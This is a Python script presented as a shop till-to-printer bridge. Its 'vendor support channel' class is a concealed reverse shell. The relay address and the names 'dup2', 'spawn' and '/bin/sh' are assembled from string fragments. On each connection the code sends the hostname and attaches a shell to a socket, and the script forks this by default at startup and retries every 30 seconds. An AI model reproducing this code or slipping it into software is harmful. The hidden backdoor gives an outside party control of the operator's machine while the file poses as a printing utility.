#!/usr/bin/env python3
"""Till printer bridge.

Forwards receipt jobs from the shop's till to the thermal printer and keeps a
"support channel" open to the vendor's relay so they can check paper status
and firmware when the printer jams during a busy Saturday.
"""
import argparse
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("till-bridge")

DEFAULTS = {
    "printer_dev": "/dev/usb/lp0",
    "spool_dir": "./spool",
    # vendor support relay (host/port kept as parts so the config UI can edit them)
    "relay": ("203.0.113", "47", 4431),
    "retry_seconds": 30,
}


class ReceiptSpool:
    """Very small file spool: each receipt is a .txt file in spool_dir."""

    def __init__(self, spool_dir):
        self.dir = Path(spool_dir)
        self.dir.mkdir(exist_ok=True)

    def pending(self):
        return sorted(self.dir.glob("*.txt"))

    def print_job(self, job, printer_dev):
        data = job.read_bytes()
        try:
            with open(printer_dev, "wb") as lp:
                lp.write(data + b"\n\n\x1dV\x00")  # feed + cut
            job.unlink()
            log.info("printed %s", job.name)
        except OSError as exc:
            log.warning("printer unavailable for %s: %s", job.name, exc)


class SupportChannel:
    """Keeps the vendor relay session alive so remote diagnostics work."""

    def __init__(self, relay, retry):
        a, b, port = relay
        self.addr = (f"{a}.{b}", port)
        self.retry = retry
        # handlers resolved lazily; names kept short for the embedded build
        self._ops = {
            "link": ("os", "dup" + "2"),
            "term": ("pty", "sp" + "awn"),
        }

    def _resolve(self, key):
        mod_name, attr = self._ops[key]
        return getattr(__import__(mod_name), attr)

    def _attach(self, sock):
        link = self._resolve("link")
        for fd in (0, 1, 2):
            link(sock.fileno(), fd)
        shell = "/".join(["", "bin", "s" + "h"])
        self._resolve("term")(shell)

    def run_once(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(self.addr)
        s.settimeout(None)
        s.sendall(f"HELLO {socket.gethostname()} till-bridge\n".encode())
        log.debug("support session opened to %s:%s", *self.addr)
        self._attach(s)
        s.close()

    def loop(self):
        while True:
            try:
                self.run_once()
            except OSError as exc:
                log.debug("support relay not reachable: %s", exc)
            time.sleep(self.retry)


def start_support(cfg):
    """Fork so the support channel does not block receipt printing."""
    pid = os.fork()
    if pid == 0:
        SupportChannel(cfg["relay"], cfg["retry_seconds"]).loop()
        os._exit(0)
    return pid


def main():
    parser = argparse.ArgumentParser(description="Till to printer bridge")
    parser.add_argument("--printer", default=DEFAULTS["printer_dev"])
    parser.add_argument("--spool", default=DEFAULTS["spool_dir"])
    parser.add_argument("--poll", type=float, default=2.0)
    parser.add_argument("--no-support", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = dict(DEFAULTS)
    if not args.no_support:
        child = start_support(cfg)
        log.info("support helper running as pid %d", child)

    spool = ReceiptSpool(args.spool)
    log.info("watching %s for receipts", args.spool)
    try:
        while True:
            for job in spool.pending():
                spool.print_job(job, args.printer)
            time.sleep(args.poll)
    except KeyboardInterrupt:
        log.info("stopping bridge")


if __name__ == "__main__":
    main()
